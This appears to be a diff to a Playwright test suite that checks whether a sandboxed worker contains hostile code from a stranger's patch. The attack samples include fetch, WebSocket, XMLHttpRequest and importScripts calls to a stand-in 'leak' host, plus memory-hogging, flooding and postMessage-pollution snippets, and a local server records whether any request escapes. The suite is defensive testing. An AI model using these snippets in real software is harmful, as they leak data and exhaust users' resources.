@@ -1,6 +1,9 @@
 // A stranger's patch in the page: what it does is shown, and what it tries to do to the reader comes to nothing.
 
+import { once } from "node:events";
 import { readFileSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { expect, type Page, test } from "@playwright/test";
 import { createTwoFilesPatch } from "diff";
 import { expectFine, LOOKS } from "./looks.ts";
@@ -98,20 +101,31 @@ const ATTACKS = [
   },
   {
     what: "goes somewhere else",
-    code: `try { location.href = "https://example.org/gone"; } catch {} throw new Error("still " + location.protocol);`,
+    code: `try { location.href = "HOME/gone"; } catch {} throw new Error("still " + location.protocol);`,
     says: "still blob:",
   },
   {
     what: "calls home",
     code: `
-      const tries = [() => importScripts("https://example.org/a.js"), () => new Worker("https://example.org/a.js"), () => eval("1")];
-      fetch("https://example.org/leak").catch(() => {});
+      const tries = [() => importScripts("HOME/a.js"), () => new Worker("HOME/a.js"), () => eval("1")];
+      fetch("HOME/leak").catch(() => {});
+      new WebSocket("HOME/leak".replace("http", "ws"));
       const refused = tries.filter((each) => { try { each(); return false; } catch { return true; } });
       const socket = new XMLHttpRequest();
       let sent = "sent";
-      try { socket.open("GET", "https://example.org/leak", false); socket.send(); } catch { sent = "not sent"; }
+      try { socket.open("GET", "HOME/leak", false); socket.send(); } catch { sent = "not sent"; }
       throw new Error("refused " + refused.length + ", " + sent);`,
     says: "refused 3, not sent",
+  },
+  {
+    what: "answers with something that is no text",
+    code: "const say = postMessage; globalThis.postMessage = () => say({ polluted: 1 });",
+    says: "what it said is no text",
+  },
+  {
+    what: "takes all memory",
+    code: "const hog: unknown[] = []; for (;;) hog.push({ at: hog.length, more: [hog.length] });",
+    says: "",
   },
   { what: "never comes back", code: "while (true) {}", says: "not finished after" },
   { what: "floods", code: `for (;;) postMessage("x".repeat(1000));`, says: "the worker broke off" },
@@ -125,36 +139,41 @@ const ATTACKS = [
   },
 ] as const;
 
+/** Where a stranger would wait for what leaves. That nothing comes is what counts: a browser tells of requests, too, that it refuses to send. */
+async function openHome(): Promise<{ url: string; came: string[]; close(): void }> {
+  const came: string[] = [];
+  const server = createServer(({ method, url }, response) => {
+    came.push(`${method} ${url}`);
+    response.writeHead(200, { "access-control-allow-origin": "*" }).end();
+  });
+  server.on("upgrade", ({ url }, socket) => {
+    came.push(`upgrade ${url}`);
+    socket.destroy();
+  });
+  await once(server.listen(0, "127.0.0.1"), "listening");
+  const { port } = server.address() as AddressInfo;
+  return { url: `http://127.0.0.1:${port}`, came, close: () => server.close() };
+}
+
 for (const { what, code, says } of ATTACKS) {
-  test(`code that ${what} gets nowhere`, async ({ page, baseURL }) => {
-    const left: string[] = [];
-    page.context().on("response", (response) => {
-      const request = response.request();
-      if (/^(https?|wss?):/.test(request.url()) && !request.url().startsWith(baseURL ?? "")) left.push(request.url());
-    });
+  test(`code that ${what} gets nowhere`, async ({ page }) => {
+    const home = await openHome();
     await visit(page, ADDRESS);
-    await tryIt(page, patchWith(code));
+    await tryIt(page, patchWith(code.replaceAll("HOME", home.url)));
     const found = report(page).locator("li.finding.failed").first();
     await found.waitFor();
     await expect(found).toContainText(says);
     await expectAlive(page);
-    expect(left).toEqual([]);
+    expect(home.came).toEqual([]);
+    home.close();
   });
 }
 
-// The keeper breaks it off (keeper.ts), but no finding of that was seen on the page in two minutes.
-test.fixme("code that answers with something that is no text gets nowhere", async ({ page }) => {
-  await visit(page, ADDRESS);
-  await tryIt(page, patchWith("const say = postMessage; globalThis.postMessage = () => say({ polluted: 1 });"));
-  await expect(report(page).locator("li.finding.failed").first()).toContainText("what it said is no text");
-  await expectAlive(page);
-});
-
-test.fixme("code that takes all memory takes none of the page's", async ({ page }) => {
-  await visit(page, ADDRESS);
-  await tryIt(page, patchWith(`const hog: unknown[] = []; for (;;) hog.push(new Float64Array(1e6).fill(1));`));
-  await expect(report(page).locator("li.finding.failed").or(page.getByRole("alert")).first()).toBeVisible();
-  await expectAlive(page);
+test("a stranger's home hears of whoever may call it", async ({ page }) => {
+  const home = await openHome();
+  await page.goto(`${home.url}/hello`);
+  expect(home.came).toContain("GET /hello");
+  home.close();
 });
 
 /** The page answers, still has its own objects, and begins anew with another frame. */
